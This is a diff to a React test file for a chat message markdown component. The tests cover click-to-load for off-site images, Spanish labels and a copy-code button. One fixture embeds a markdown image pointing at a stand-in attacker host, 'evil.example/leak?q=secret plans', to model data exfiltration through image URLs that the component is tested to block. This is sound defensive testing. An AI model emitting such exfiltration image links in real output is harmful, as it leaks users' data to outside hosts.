@@ -1,6 +1,9 @@
 import { MantineProvider } from '@mantine/core';
-import { render, screen } from '@testing-library/react';
-import { describe, expect, it, vi } from 'vitest';
+import { act, fireEvent, render, screen, waitFor } from '@testing-library/react';
+import { beforeAll, describe, expect, it, vi } from 'vitest';
+import { i18n } from '../../i18n';
+import { clearAlerts } from '../../ui/alerts';
+import { setLanguage } from '../../test/render';
 
 // Counts how often each block's markdown is rendered.
 const renders = vi.hoisted(() => [] as string[]);
@@ -14,6 +17,11 @@ vi.mock('react-markdown', async (importOriginal) => {
 });
 
 const { MessageMarkdown } = await import('./MessageMarkdown');
+
+beforeAll(async () => {
+  await i18n.loadNamespaces('chat');
+  await i18n.loadLanguages('es');
+});
 
 const wrap = (content: string) => (
   <MantineProvider>
@@ -49,5 +57,48 @@ describe('MessageMarkdown', () => {
     expect(link).toHaveAttribute('target', '_blank');
     expect(link).toHaveAttribute('rel', 'noopener noreferrer');
     expect(screen.getByText('bad').getAttribute('href') ?? '').not.toContain('javascript');
+  });
+
+  it('loads an image from another site only after a click, naming its host; this site\'s images load at once', async () => {
+    await setLanguage('en');
+    const { container } = render(
+      wrap('Here: ![chart](https://evil.example/leak?q=secret%20plans)\n\nAnd ![logo](/api/files/7.png) ![abs](' + window.location.origin + '/x.png)'),
+    );
+    const images = () => [...container.querySelectorAll('img')].map((img) => img.getAttribute('src'));
+    expect(images()).toEqual(['/api/files/7.png', `${window.location.origin}/x.png`]);
+    const load = screen.getByRole('button', { name: 'Load image from evil.example' });
+    fireEvent.click(load);
+    expect(images()).toContain('https://evil.example/leak?q=secret%20plans');
+    const loaded = container.querySelector('img[src^="https://evil.example"]');
+    expect(loaded).toHaveAttribute('alt', 'chart');
+    expect(loaded).toHaveAttribute('referrerpolicy', 'no-referrer');
+  });
+
+  it('says "Load image from" in Spanish too', async () => {
+    await setLanguage('es');
+    render(wrap('![x](https://cdn.example.org/a.png)'));
+    expect(screen.getByRole('button', { name: 'Cargar imagen de cdn.example.org' })).toBeInTheDocument();
+    await setLanguage('en');
+  });
+
+  it('copies a code block\'s text (not its markup) and confirms with Copied', async () => {
+    await setLanguage('en');
+    const writeText = vi.fn(async () => undefined);
+    Object.defineProperty(navigator, 'clipboard', { value: { writeText }, configurable: true });
+    const { container } = render(wrap('Run:\n\n```js\nconst a = 1;\nconsole.log(a < 2);\n```\n\nThen `inline` code has no button.'));
+    // Once highlighted, the code is split into coloured spans: the copied text must still be the code.
+    await waitFor(() => expect(container.querySelector('pre .hljs-keyword')).not.toBeNull());
+    vi.useFakeTimers({ shouldAdvanceTime: true });
+    const buttons = screen.getAllByRole('button', { name: 'Copy code' });
+    expect(buttons).toHaveLength(1);
+    await act(async () => {
+      fireEvent.click(buttons[0]!);
+    });
+    expect(writeText).toHaveBeenCalledWith('const a = 1;\nconsole.log(a < 2);');
+    expect(screen.getByRole('button', { name: 'Copied' })).toHaveTextContent('Copied');
+    act(() => vi.advanceTimersByTime(2000));
+    expect(screen.getByRole('button', { name: 'Copy code' })).toBeInTheDocument();
+    vi.useRealTimers();
+    act(() => clearAlerts());
   });
 });
